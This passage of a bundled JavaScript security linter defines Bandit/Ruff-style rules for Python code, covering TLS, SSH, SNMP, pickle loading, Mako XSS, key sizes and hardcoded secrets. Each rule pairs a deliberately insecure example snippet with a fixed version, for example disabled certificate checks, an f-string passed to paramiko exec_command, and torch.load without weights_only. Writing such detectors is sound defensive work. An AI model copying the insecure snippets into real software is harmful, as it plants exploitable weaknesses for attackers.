    'Crypto.PublicKey.DSA.generate': { kind: 'DSA', index: 0, keyword: 'bits' },
    'Crypto.PublicKey.RSA.generate': { kind: 'RSA', index: 0, keyword: 'bits' },
    'Cryptodome.PublicKey.DSA.generate': { kind: 'DSA', index: 0, keyword: 'bits' },
    'Cryptodome.PublicKey.RSA.generate': { kind: 'RSA', index: 0, keyword: 'bits' },
};
/** Weak elliptic curves and their sizes in bits. */
const EC_CURVES = { SECP192R1: 192, SECT163K1: 163, SECT163R2: 163 };
/** Bit size of the key a call asks for, when it is a constant. */
function keyBits(call, spec, model) {
    const arg = (0, arguments_1.argumentAt)(call.node, spec.index, spec.keyword);
    if (!arg || arg.type === 'list_splat')
        return undefined;
    const expr = (0, literals_1.unparenthesize)(arg);
    if (spec.kind === 'EC') {
        const target = expr.type === 'call' ? expr.childForFieldName('function') : expr;
        const q = target ? model.resolveAssumed(target) : undefined;
        const curve = q?.startsWith(`${HAZMAT}.ec.`) ? q.slice(HAZMAT.length + 4) : undefined;
        return curve && curve in EC_CURVES ? [EC_CURVES[curve], arg] : undefined;
    }
    if (expr.type !== 'integer')
        return undefined;
    const bits = Number(expr.text.replace(/_/g, ''));
    return Number.isFinite(bits) ? [bits, arg] : undefined;
}
/** The key-generating calls whose key size is a constant, in the order of the call model. */
function generatedKeys(model) {
    const out = [];
    for (const call of model.callsToAssumed(Object.keys(FUNCTIONS))) {
        const spec = FUNCTIONS[call.assumedName];
        const found = keyBits(call, spec, model);
        if (!found)
            continue;
        const [bits, at] = found;
        const [breakableBelow, recommended] = spec.kind === 'EC' ? [160, 224] : [1024, 2048];
        out.push({ call, kind: spec.kind, bits, at, breakableBelow, recommended });
    }
    return out;
}


/***/ }),

/***/ 9185:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.loggingConfigInsecureListen = void 0;
/** Bandit B612 / Ruff S612: `logging.config.listen` without a `verify` function. */
const arguments_1 = __nccwpck_require__(9950);
const common_1 = __nccwpck_require__(8925);
exports.loggingConfigInsecureListen = (0, common_1.callRule)({
    id: 'logging-config-insecure-listen',
    name: 'LoggingConfigInsecureListen',
    bandit: 'B612',
    ruff: 'S612',
    severity: 'MEDIUM',
    confidence: 'HIGH',
    category: 'injection',
    cwe: [94],
    functions: ['logging.config.listen'],
    check: (call) => !(0, arguments_1.keywordArgument)(call.node, 'verify'),
    message: (call) => `${(0, common_1.callName)(call)} without \`verify=\` accepts logging configurations from anyone who can connect, and configurations can run code`,
    short: 'logging.config.listen without a verify function',
    full: 'logging.config.listen opens a socket that accepts logging configurations; configurations can name classes to instantiate, so without verify= anyone who can connect can run code.',
    title: '`logging.config.listen` without verification',
    why: 'The listener applies any configuration it receives with `dictConfig`/`fileConfig`, which import and call the classes it names. Without a `verify` callable, whoever reaches the port runs code in the process.',
    example: 'import logging.config\n\nthread = logging.config.listen(9999)',
    fix: 'Pass `verify=` a function that checks a signature (or rejects everything unexpected), and bind to a trusted interface only.',
    fixed: 'import logging.config\n\nthread = logging.config.listen(9999, verify=check_signature)',
    notReported: ['Calls that pass `verify=` as a keyword. A `verify` passed positionally is still reported, as Bandit and Ruff do: write it as a keyword.'],
});


/***/ }),

/***/ 9914:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.makoTemplates = void 0;
/** Bandit B702 / Ruff S702: Mako templates, which render values without HTML escaping. */
const arguments_1 = __nccwpck_require__(9950);
const common_1 = __nccwpck_require__(8925);
exports.makoTemplates = (0, common_1.callRule)({
    id: 'mako-templates',
    name: 'MakoTemplates',
    bandit: 'B702',
    ruff: 'S702',
    severity: 'MEDIUM',
    confidence: 'HIGH',
    category: 'xss',
    cwe: [80],
    functions: ['mako.template.Template', 'mako.lookup.TemplateLookup'],
    check: (call) => call.assumedName === 'mako.template.Template' || !(0, arguments_1.keywordArgument)(call.node, 'default_filters'),
    message: (call) => `${(0, common_1.callName)(call)}: Mako does not escape HTML by default: cross-site scripting`,
    short: 'Mako templates render values without HTML escaping',
    full: 'Mako templates do not escape expressions by default, so values rendered into HTML can inject script (XSS).',
    title: 'Mako templates without escaping',
    why: 'Mako renders `${value}` as is unless a filter is applied. In an HTML template, a user-supplied value containing markup reaches the page as markup.',
    example: 'from mako.template import Template\n\nhtml = Template("<p>${name}</p>").render(name=name)',
    fix: 'Pass `default_filters=["h"]` (HTML escaping) to `Template`/`TemplateLookup`, or escape each expression with `${value | h}`; review the alert after that.',
    fixed: 'from mako.lookup import TemplateLookup\n\nlookup = TemplateLookup(directories=["templates"], default_filters=["h"])\nhtml = lookup.get_template("name.html").render(name=name)',
    notReported: ['`TemplateLookup` calls that set `default_filters=`.'],
});


/***/ }),

/***/ 655:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.marksNonLiteral = marksNonLiteral;
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
/** True when the call's first argument (`s=`/`object=`) is given and is not a literal string. */
function marksNonLiteral(call) {
    const value = (0, arguments_1.argumentAt)(call.node, 0, 's') ?? (0, arguments_1.argumentAt)(call.node, 0, 'object');
    return value !== undefined && value.type !== 'list_splat' && (0, literals_1.stringLiteralValue)(value) === undefined;
}


/***/ }),

/***/ 4638:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.paramikoExecCommand = void 0;
const calls_1 = __nccwpck_require__(4463);
const common_1 = __nccwpck_require__(8925);
exports.paramikoExecCommand = (0, common_1.securityRule)({
    id: 'paramiko-exec-command',
    name: 'ParamikoExecCommand',
    bandit: 'B601',
    ruff: 'S601',
    severity: 'MEDIUM',
    confidence: 'MEDIUM',
    category: 'injection',
    cwe: [78],
    short: 'paramiko exec_command runs a command through the remote shell',
    full: "A paramiko exec_command call: the command string is interpreted by the remote host's shell, so any part built from outside input can inject commands there.",
    title: "A command run through paramiko's `exec_command`",
    why: "`exec_command` sends a string to the SSH server, which runs it with the user's login shell. Values pasted into it are parsed by that shell: `;`, `|` and `$(...)` in them run commands on the remote host.",
    example: 'import paramiko\n\nclient.exec_command(f"ls {directory}")',
    fix: 'Quote every variable part with `shlex.quote()`, or avoid the shell (SFTP for file operations).',
    fixed: 'import paramiko\n\nsftp = client.open_sftp()\nnames = sftp.listdir(directory)',
    notReported: ['`exec_command` calls in files that do not import `paramiko`.'],
    uses: [calls_1.calls],
    create(context) {
        let importsParamiko = false;
        const check = (node) => {
            if (/\bparamiko\b/.test(node.text))
                importsParamiko = true;
        };
        return {
            import_statement: check,
            import_from_statement: check,
            end() {
                if (!importsParamiko)
                    return;
                for (const call of context.analysis(calls_1.calls).calls) {
                    if (call.callee.type === 'attribute' && call.callee.childForFieldName('attribute')?.text === 'exec_command') {
                        context.report(call.callee, 'paramiko `exec_command` runs its command through the remote shell; check that no part comes from outside input');
                    }
                }
            },
        };
    },
});


/***/ }),

/***/ 9852:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.PASSWORD_SPEC = void 0;
exports.isPasswordName = isPasswordName;
exports.targetName = targetName;
exports.literal = literal;
const literals_1 = __nccwpck_require__(8436);
/** Names that look like they hold a password, token or secret (`db_password`, `PASSWD`, `api_token`, `secret_`). */
const CANDIDATE = /(^|_)(pas+wo?r?d|pass(phrase)?|pwd|token|secrete?)($|_)/i;
function isPasswordName(name) {
    return CANDIDATE.test(name);
}
/** The name a target is known by: `password`, `self.password` -> `password`, `d["password"]` -> `password`. */
function targetName(node) {
    const expr = (0, literals_1.unparenthesize)(node);
    if (expr.type === 'identifier')
        return expr.text;
    if (expr.type === 'attribute')
        return expr.childForFieldName('attribute')?.text;
    if (expr.type === 'subscript') {
        const index = expr.childForFieldName('subscript');
        return index ? (0, literals_1.stringLiteralValue)(index) : undefined;
    }
    return undefined;
}
/** A plain string literal value (with no interpolation), or undefined. */
function literal(node) {
    return node ? (0, literals_1.stringLiteralValue)(node) : undefined;
}
/** The grading and fix the three rules share. */
exports.PASSWORD_SPEC = {
    severity: 'LOW',
    confidence: 'MEDIUM',
    category: 'secrets',
    cwe: [259],
    fix: 'Read secrets at run time from the environment (`os.environ["DB_PASSWORD"]`), a secrets manager, or a file outside the repository, and rotate any secret that was committed: it stays in the history.',
    notReported: [
        'Empty strings.',
        'Values that are not plain string literals (f-strings with fields, calls such as `os.environ["PASSWORD"]`, names).',
        'Names that do not contain `password`, `passwd`, `pwd`, `pass`, `passphrase`, `token` or `secret` as a word (separated by `_` or at the ends): `passenger`, `tokenizer` and `bypass` are not candidates.',
    ],
};


/***/ }),

/***/ 8537:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.pytorchUnsafeLoad = void 0;
/** Bandit B614 (no Ruff code): `torch.load` without `weights_only=True`. */
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
exports.pytorchUnsafeLoad = (0, common_1.callRule)({
    id: 'pytorch-unsafe-load',
    name: 'PytorchUnsafeLoad',
    bandit: 'B614',
    severity: 'MEDIUM',
    confidence: 'HIGH',
    category: 'deserialization',
    cwe: [502],
    functions: ['torch.load'],
    check: (call) => {
        const weightsOnly = (0, arguments_1.keywordValue)(call.node, 'weights_only');
        return !weightsOnly || (0, literals_1.truthiness)(weightsOnly) !== true;
    },
    message: (call) => `${(0, common_1.callName)(call)} without \`weights_only=True\` unpickles the file, which can run arbitrary code`,
    short: 'torch.load without weights_only=True (unpickles arbitrary objects)',
    full: 'torch.load uses pickle; without weights_only=True a model file from outside the program can run code when it is loaded.',
    title: '`torch.load` without `weights_only=True`',
    why: 'PyTorch checkpoints are pickles. Unless `weights_only=True` restricts what may be built, loading a downloaded or user-supplied checkpoint runs whatever code its author put in it.',
    example: 'import torch\n\nmodel = torch.load("model.pt")',
    fix: 'Pass `weights_only=True` (the default since PyTorch 2.6), or use the `safetensors` format.',
    fixed: 'import torch\n\nmodel = torch.load("model.pt", weights_only=True)',
    notReported: ['`weights_only=` with a true constant.'],
});


/***/ }),

/***/ 7533:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.requestWithoutCertValidation = void 0;
/** Bandit B501 / Ruff S501: certificate checks turned off in requests/httpx (`verify=False`). */
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
const apis_1 = __nccwpck_require__(1813);
exports.requestWithoutCertValidation = (0, common_1.callRule)({
    id: 'request-without-cert-validation',
    name: 'RequestWithoutCertValidation',
    bandit: 'B501',
    ruff: 'S501',
    severity: 'HIGH',
    confidence: 'HIGH',
    category: 'tls',
    cwe: [295],
    functions: [...apis_1.REQUESTS_FUNCTIONS, ...apis_1.HTTPX_FUNCTIONS],
    check: (call) => {
        const verify = (0, arguments_1.keywordValue)(call.node, 'verify');
        return verify && (0, literals_1.truthiness)(verify) === false ? (0, arguments_1.keywordArgument)(call.node, 'verify') : false;
    },
    message: (call) => `${(0, common_1.callName)(call)} with \`verify=False\` accepts any certificate: anyone on the network path can read and change the traffic`,
    short: 'HTTP request with certificate verification disabled (verify=False)',
    full: "A requests or httpx call passes verify=False, so the server's certificate is not checked and the connection can be intercepted by anyone on the network path.",
    title: 'Certificate verification turned off',
    why: 'Without certificate verification, TLS still encrypts but no longer authenticates: a machine in the middle (a hostile Wi-Fi, a compromised router, a proxy) can present its own certificate, read credentials and change responses.',
    example: 'import requests\n\nrequests.get("https://internal.example", verify=False)',
    fix: 'Keep verification on. For a private CA, pass its bundle: `verify="/etc/ssl/private-ca.pem"` (or set `REQUESTS_CA_BUNDLE`).',
    fixed: 'import requests\n\nrequests.get("https://internal.example", verify="/etc/ssl/private-ca.pem")',
    notReported: [
        '`verify=` with a value that is not a false constant (a path, a setting).',
        'Sessions configured with `session.verify = False` (attribute assignments are not tracked).',
    ],
});


/***/ }),

/***/ 7588:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.requestWithoutTimeout = void 0;
/** Bandit B113 / Ruff S113: a `requests` call without a timeout, or a `requests`/`httpx` call with `timeout=None`. */
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const apis_1 = __nccwpck_require__(1813);
const common_1 = __nccwpck_require__(8925);
exports.requestWithoutTimeout = (0, common_1.callRule)({
    id: 'request-without-timeout',
    name: 'RequestWithoutTimeout',
    bandit: 'B113',
    ruff: 'S113',
    severity: 'MEDIUM',
    confidence: 'LOW',
    category: 'network',
    cwe: [400],
    functions: [...apis_1.REQUESTS_FUNCTIONS, ...apis_1.HTTPX_FUNCTIONS],
    check: (call) => {
        const timeout = (0, arguments_1.keywordValue)(call.node, 'timeout');
        if (timeout)
            return (0, literals_1.unparenthesize)(timeout).type === 'none' ? timeout : false;
        // httpx has a default timeout; requests waits forever unless told otherwise.
        return call.assumedName.startsWith('requests.') && !(0, arguments_1.hasArgumentSplat)(call.node);
    },
    message: (call) => `${(0, common_1.callName)(call)} has no timeout: a server that stops answering blocks the caller forever`,
    short: 'HTTP request without a timeout',
    full: 'A requests call without timeout= (or an httpx/requests call with timeout=None) waits for the server indefinitely; a slow or hostile server can hang the program and exhaust its workers.',
    title: 'An HTTP request without a timeout',
    why: '`requests` has no default timeout: a call waits as long as the server keeps the connection open. One unresponsive host can block a worker forever, and enough of them take a service down. `httpx` has a default, but `timeout=None` removes it.',
    example: 'import requests\n\nresp = requests.get(url)',
    fix: 'Always pass a timeout: `requests.get(url, timeout=10)` (or a `(connect, read)` pair).',
    fixed: 'import requests\n\nresp = requests.get(url, timeout=10)',
    notReported: [
        '`httpx` calls without `timeout=`: httpx applies a 5-second default.',
        'Calls that pass `**kwargs` (the timeout may be in them).',
        'Methods of a `requests.Session` (the session object is not tracked).',
    ],
});


/***/ }),

/***/ 5948:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.shortCryptographicKey = void 0;
/**
 * Bandit B505 / Ruff S505, MEDIUM: an RSA or DSA key under 2048 bits, or an EC key under 224
 * bits, that is not in the breakable band of `weak-cryptographic-key` (HIGH).
 */
const calls_1 = __nccwpck_require__(4463);
const common_1 = __nccwpck_require__(8925);
const key_sizes_1 = __nccwpck_require__(7538);
exports.shortCryptographicKey = (0, common_1.securityRule)({
    id: 'short-cryptographic-key',
    name: 'ShortCryptographicKey',
    bandit: 'B505',
    ruff: 'S505',
    severity: 'MEDIUM',
    confidence: 'HIGH',
    category: 'cryptography',
    cwe: [326],
    short: 'RSA/DSA key under 2048 bits or EC key under 224 bits',
    full: "A key is generated below today's minimum (RSA/DSA under 2048 bits, elliptic curves under 224 bits); such keys are within reach of well-funded attackers and rejected by current standards.",
    title: 'A cryptographic key below the recommended size',
    why: 'The strength of RSA, DSA and elliptic-curve keys depends on their size. NIST and most standards require at least 2048 bits for RSA/DSA and 224 bits for elliptic curves; smaller keys can be factored or solved, exposing everything they sign or protect.',
    example: 'from cryptography.hazmat.primitives.asymmetric import dsa\n\nkey = dsa.generate_private_key(key_size=1024)',
    fix: 'Use RSA 3072 (at least 2048) bits, or an elliptic curve such as `ec.SECP256R1()` or Ed25519.',
    fixed: 'from cryptography.hazmat.primitives.asymmetric import dsa\n\nkey = dsa.generate_private_key(key_size=3072)',
    notReported: ['Key sizes that are not integer literals (variables, settings).', 'Sizes below 1024 bits (160 for EC): `weak-cryptographic-key`.'],
    note: '## Why two rules\n\nBandit grades B505 high below 1024 bits (160 for elliptic curves) and medium below 2048 (224). Tendril reports the two bands as `weak-cryptographic-key` (high) and `short-cryptographic-key` (medium); both answer to `B505` and `S505`.',
    uses: [calls_1.calls],
    create(context) {
        return {
            end() {
                for (const key of (0, key_sizes_1.generatedKeys)(context.analysis(calls_1.calls))) {
                    if (key.bits < key.breakableBelow || key.bits >= key.recommended)
                        continue;
                    context.report(key.at, `${(0, common_1.callName)(key.call)} generates a ${key.bits}-bit ${key.kind} key; use at least ${key.recommended} bits`);
                }
            },
        };
    },
});


/***/ }),

/***/ 6806:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.snmpInsecureVersion = void 0;
/** Bandit B508 / Ruff S508: an SNMP v1 or v2c community (pysnmp `CommunityData` with `mpModel=0` or `1`). */
const calls_1 = __nccwpck_require__(4463);
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
const snmp_1 = __nccwpck_require__(3136);
exports.snmpInsecureVersion = (0, common_1.securityRule)({
    id: 'snmp-insecure-version',
    name: 'SnmpInsecureVersion',
    bandit: 'B508',
    ruff: 'S508',
    severity: 'MEDIUM',
    confidence: 'HIGH',
    category: 'network',
    cwe: [319],
    short: 'SNMP v1/v2c community (mpModel=0 or 1): clear-text community string',
    full: "pysnmp's CommunityData is created with mpModel=0 or 1 (SNMP v1 or v2c), which authenticate with a clear-text community string and do not encrypt.",
    title: 'SNMP v1 or v2c',
    why: 'SNMP v1 and v2c send the community string, their only credential, in clear text, and protect nothing else. Anyone on the path can read it and then query or reconfigure the device.',
    example: 'from pysnmp.hlapi import CommunityData\n\nauth = CommunityData("public", mpModel=0)',
    fix: 'Use SNMPv3 with authentication and privacy: `UsmUserData(user, auth_key, priv_key, authProtocol=..., privProtocol=...)`.',
    fixed: 'from pysnmp.hlapi import UsmUserData, usmAesCfb128Protocol, usmHMACSHAAuthProtocol\n\nauth = UsmUserData("monitor", auth_key, priv_key, authProtocol=usmHMACSHAAuthProtocol, privProtocol=usmAesCfb128Protocol)',
    notReported: ['`mpModel=` values that are not the integer literals 0 or 1.'],
    uses: [calls_1.calls],
    create(context) {
        return {
            end() {
                for (const call of (0, snmp_1.snmpCalls)(context.analysis(calls_1.calls), 'CommunityData')) {
                    const model = (0, arguments_1.keywordValue)(call.node, 'mpModel');
                    const text = model ? (0, literals_1.unparenthesize)(model).text : undefined;
                    if (text === '0' || text === '1')
                        context.report(call.callee, `${(0, common_1.callName)(call)} with \`mpModel=${text}\` uses SNMP v${text === '0' ? '1' : '2c'}, which sends its community string in clear text`);
                }
            },
        };
    },
});


/***/ }),

/***/ 5096:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.snmpWeakCryptography = void 0;
/** Bandit B509 / Ruff S509: an SNMPv3 user (pysnmp `UsmUserData`) without authentication and privacy keys. */
const calls_1 = __nccwpck_require__(4463);
const arguments_1 = __nccwpck_require__(9950);
const common_1 = __nccwpck_require__(8925);
const snmp_1 = __nccwpck_require__(3136);
exports.snmpWeakCryptography = (0, common_1.securityRule)({
    id: 'snmp-weak-cryptography',
    name: 'SnmpWeakCryptography',
    bandit: 'B509',
    ruff: 'S509',
    severity: 'MEDIUM',
    confidence: 'HIGH',
    category: 'network',
    cwe: [319],
    short: 'SNMPv3 user without authentication and privacy keys',
    full: "pysnmp's UsmUserData is created with fewer than three arguments, so the SNMPv3 user has no privacy (encryption) key and possibly no authentication key (noAuthNoPriv or authNoPriv).",
    title: 'SNMPv3 without encryption',
    why: 'An SNMPv3 user without a privacy key sends everything in clear text, and without an authentication key anyone can speak for it.',
    example: 'from pysnmp.hlapi import UsmUserData\n\nuser = UsmUserData("monitor", "auth-key")',
    fix: 'Give both keys and strong protocols: `UsmUserData(user, auth_key, priv_key, authProtocol=usmHMACSHAAuthProtocol, privProtocol=usmAesCfb128Protocol)`.',
    fixed: 'from pysnmp.hlapi import UsmUserData, usmAesCfb128Protocol, usmHMACSHAAuthProtocol\n\nuser = UsmUserData("monitor", auth_key, priv_key, authProtocol=usmHMACSHAAuthProtocol, privProtocol=usmAesCfb128Protocol)',
    notReported: ['Calls with three or more arguments (positional or keyword), or with `*args`/`**kwargs`.'],
    uses: [calls_1.calls],
    create(context) {
        return {
            end() {
                for (const call of (0, snmp_1.snmpCalls)(context.analysis(calls_1.calls), 'UsmUserData')) {
                    const args = call.args?.type === 'argument_list' ? call.args.namedChildren.filter((c) => c && c.type !== 'comment') : [];
                    if (args.some((a) => a.type === 'list_splat' || a.type === 'dictionary_splat'))
                        continue;
                    if (args.length >= 3 || (0, arguments_1.positionalArguments)(call.node).length >= 3)
                        continue;
                    context.report(call.callee, `${(0, common_1.callName)(call)} without a privacy key sends SNMP traffic unencrypted`);
                }
            },
        };
    },
});


/***/ }),

/***/ 3136:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.snmpCalls = snmpCalls;
/** The calls to pysnmp's class or function `name`, from whichever pysnmp module it is imported. */
function snmpCalls(model, name) {
    return model.calls.filter((c) => {
        const q = c.assumedName;
        return q !== undefined && q.startsWith('pysnmp.') && q.endsWith(`.${name}`);
    });
}


/***/ }),

/***/ 1335:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.sshNoHostKeyVerification = void 0;
/** Bandit B507 / Ruff S507: an SSH client (paramiko) that accepts unknown host keys. */
const calls_1 = __nccwpck_require__(4463);
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
const UNSAFE_POLICIES = new Set(['paramiko.AutoAddPolicy', 'paramiko.WarningPolicy', 'paramiko.client.AutoAddPolicy', 'paramiko.client.WarningPolicy']);
exports.sshNoHostKeyVerification = (0, common_1.securityRule)({
    id: 'ssh-no-host-key-verification',
    name: 'SshNoHostKeyVerification',
    bandit: 'B507',
    ruff: 'S507',
    severity: 'HIGH',
    confidence: 'MEDIUM',
    category: 'network',
    cwe: [295],
    short: 'paramiko accepts unknown SSH host keys (AutoAddPolicy/WarningPolicy)',
    full: "set_missing_host_key_policy is given paramiko's AutoAddPolicy or WarningPolicy, so the client connects to any server presenting an unknown key, defeating SSH's protection against impersonation.",
    title: 'SSH host keys not verified',
    why: 'SSH authenticates the server by its host key. Accepting unknown keys (`AutoAddPolicy`) or only warning (`WarningPolicy`) lets anyone who can intercept the connection pose as the server and collect the credentials and commands sent to it.',
    example: 'import paramiko\n\nclient = paramiko.SSHClient()\nclient.set_missing_host_key_policy(paramiko.AutoAddPolicy())',
    fix: 'Load known keys (`client.load_system_host_keys()` or `load_host_keys(path)`) and keep the default `RejectPolicy`.',
    fixed: 'import paramiko\n\nclient = paramiko.SSHClient()\nclient.load_system_host_keys()',
    notReported: ["Policies other than paramiko's `AutoAddPolicy` and `WarningPolicy` (custom policies are not inspected)."],
    uses: [calls_1.calls],
    create(context) {
        return {
            end() {
                const model = context.analysis(calls_1.calls);
                for (const call of model.calls) {
                    if (call.callee.type !== 'attribute' || call.callee.childForFieldName('attribute')?.text !== 'set_missing_host_key_policy')
                        continue;
                    const policy = (0, arguments_1.argumentAt)(call.node, 0, 'policy');
                    if (!policy)
                        continue;
                    const expr = (0, literals_1.unparenthesize)(policy);
                    const target = expr.type === 'call' ? expr.childForFieldName('function') : expr;
                    const q = target ? model.resolveAssumed(target) : undefined;
                    if (q && UNSAFE_POLICIES.has(q))
                        context.report(policy, `\`${q.split('.').pop()}\` accepts unknown host keys: the server is not authenticated`);
                }
            },
        };
    },
});


/***/ }),

/***/ 8318:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.sslInsecureVersionDefault = void 0;
const common_1 = __nccwpck_require__(8925);
const ssl_protocols_1 = __nccwpck_require__(3988);
exports.sslInsecureVersionDefault = (0, common_1.securityRule)({
    id: 'ssl-insecure-version-default',
    name: 'SslInsecureVersionDefault',
    bandit: 'B503',
    ruff: 'S503',
    severity: 'MEDIUM',
    confidence: 'MEDIUM',
    category: 'tls',
    cwe: [327],
    short: 'parameter default is a broken SSL/TLS protocol version',
    full: 'A function parameter defaults to SSL 2/3 or TLS 1.0/1.1, so callers that do not choose a version get a broken one.',
    title: 'A broken SSL/TLS protocol version as a default',
    why: `${ssl_protocols_1.PROTOCOL_WHY} As a default, the weak version is used by every caller that does not override it.`,
    example: 'import ssl\n\ndef connect(host, version=ssl.PROTOCOL_SSLv3):\n    ...',
    fix: 'Default to `ssl.PROTOCOL_TLS_CLIENT` (or `None` and build a context with `ssl.create_default_context()`).',
    fixed: 'import ssl\n\ndef connect(host, version=ssl.PROTOCOL_TLS_CLIENT):\n    ...',
    notReported: ['Defaults that are not one of the broken protocol constants.'],
    create(context) {
        const check = (node) => {
            const value = node.childForFieldName('value');
            const bad = value ? (0, ssl_protocols_1.badProtocol)(value) : undefined;
            if (bad)
                context.report(value, `parameter default \`${bad}\` is a broken protocol version`);
        };
        return { default_parameter: check, typed_default_parameter: check };
    },
});


/***/ }),

/***/ 5546:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.sslInsecureVersion = void 0;
/** Bandit B502 / Ruff S502: a broken SSL/TLS protocol version passed to a call. */
const calls_1 = __nccwpck_require__(4463);
const arguments_1 = __nccwpck_require__(9950);
const common_1 = __nccwpck_require__(8925);
const ssl_protocols_1 = __nccwpck_require__(3988);
exports.sslInsecureVersion = (0, common_1.securityRule)({
    id: 'ssl-insecure-version',
    name: 'SslInsecureVersion',
    bandit: 'B502',
    ruff: 'S502',
    severity: 'HIGH',
    confidence: 'HIGH',
    category: 'tls',
    cwe: [327],
    short: 'call with a broken SSL/TLS protocol version (SSLv2, SSLv3, TLSv1, TLSv1.1)',
    full: 'A call passes ssl_version= or method= naming SSL 2/3 or TLS 1.0/1.1, protocol versions with known attacks.',
    title: 'A broken SSL/TLS protocol version',
    why: ssl_protocols_1.PROTOCOL_WHY,
    example: 'import ssl\n\nctx = ssl.SSLContext(ssl_version=ssl.PROTOCOL_TLSv1)',
    fix: 'Use `ssl.create_default_context()` (or `ssl.PROTOCOL_TLS_CLIENT`), and raise `minimum_version` to `ssl.TLSVersion.TLSv1_2` if needed.',
    fixed: 'import ssl\n\nctx = ssl.create_default_context()\nctx.minimum_version = ssl.TLSVersion.TLSv1_2',
    notReported: [
        'Protocol versions passed positionally, or through variables.',
        'A protocol constant as a parameter default: that is `ssl-insecure-version-default` (B503).',
    ],
    uses: [calls_1.calls],
    create(context) {
        return {
            end() {
                for (const call of context.analysis(calls_1.calls).calls) {
                    for (const keyword of ['ssl_version', 'method']) {
                        const value = (0, arguments_1.keywordValue)(call.node, keyword);
                        const bad = value ? (0, ssl_protocols_1.badProtocol)(value) : undefined;
                        if (bad)
                            context.report((0, arguments_1.keywordArgument)(call.node, keyword), `\`${bad}\` is a broken protocol version; use TLS 1.2 or later`);
                    }
                }
            },
        };
    },
});


/***/ }),

/***/ 3988:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.PROTOCOL_WHY = void 0;
exports.badProtocol = badProtocol;
const literals_1 = __nccwpck_require__(8436);
const BAD_PROTOCOLS = new Set([
    'PROTOCOL_SSLv2',
    'PROTOCOL_SSLv3',
    'PROTOCOL_TLSv1',
    'PROTOCOL_TLSv1_1',
    'SSLv2_METHOD',
    'SSLv23_METHOD',
    'SSLv3_METHOD',
    'TLSv1_METHOD',
    'TLSv1_1_METHOD',
]);
/** The protocol constant's name when the node names a broken protocol (`ssl.PROTOCOL_SSLv3`, `SSLv3_METHOD`). */
function badProtocol(node) {
    const expr = (0, literals_1.unparenthesize)(node);
    const name = expr.type === 'attribute' ? expr.childForFieldName('attribute')?.text : expr.type === 'identifier' ? expr.text : undefined;
    return name && BAD_PROTOCOLS.has(name) ? name : undefined;
}
/** Help text: why the broken protocol versions matter. */
exports.PROTOCOL_WHY = 'SSL 2.0, SSL 3.0, TLS 1.0 and TLS 1.1 have known attacks (DROWN, POODLE, BEAST) and are deprecated (RFC 8996). A connection that uses them can be downgraded or decrypted.';


/***/ }),

/***/ 7364:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.sslWithNoVersion = void 0;
/** Bandit B504 / Ruff S504: `ssl.wrap_socket` without an explicit protocol version. */
const arguments_1 = __nccwpck_require__(9950);
const common_1 = __nccwpck_require__(8925);
exports.sslWithNoVersion = (0, common_1.callRule)({
    id: 'ssl-with-no-version',
    name: 'SslWithNoVersion',
    bandit: 'B504',
    ruff: 'S504',
    severity: 'LOW',
    confidence: 'MEDIUM',
    category: 'tls',
    cwe: [327],
    functions: ['ssl.wrap_socket'],
    check: (call) => !(0, arguments_1.keywordArgument)(call.node, 'ssl_version'),
    message: (call) => `${(0, common_1.callName)(call)} without \`ssl_version=\` relies on a default that may allow old protocol versions`,
    short: 'ssl.wrap_socket called without an explicit protocol version',
    full: "ssl.wrap_socket is called without ssl_version=, so the protocol depends on the Python version's default, which allowed broken versions in older releases. wrap_socket is also deprecated and removed in Python 3.12.",
    title: '`ssl.wrap_socket` without a protocol version',
    why: '`ssl.wrap_socket` takes its protocol from a default that, on older Pythons, negotiates SSL 3 or TLS 1.0. It also checks no certificate by default, and it was removed in Python 3.12.',
    example: 'import ssl\n\nconn = ssl.wrap_socket(sock)',
    fix: 'Use `ssl.create_default_context().wrap_socket(sock, server_hostname=host)`.',
    fixed: 'import ssl\n\nconn = ssl.create_default_context().wrap_socket(sock, server_hostname=host)',
